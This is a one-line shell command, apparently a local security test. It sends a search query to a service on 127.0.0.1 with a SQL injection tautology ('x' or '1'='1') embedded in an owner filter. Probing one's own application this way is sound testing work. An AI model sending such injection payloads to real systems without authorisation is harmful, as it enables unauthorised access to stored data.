curl -s -G --data-urlencode "q=owner:\"x' or '1'='1\"" http://127.0.0.1:8080/search | head -n 1
